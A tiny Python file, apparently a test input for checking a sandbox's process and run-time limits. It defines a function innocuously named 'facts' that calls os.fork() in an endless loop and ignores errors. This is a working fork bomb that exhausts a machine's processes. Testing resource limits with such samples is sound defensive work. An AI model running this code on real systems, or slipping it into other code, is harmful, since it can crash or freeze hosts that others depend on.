"""Forks without end."""
# 1.3 limit run.time

import os


def facts(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
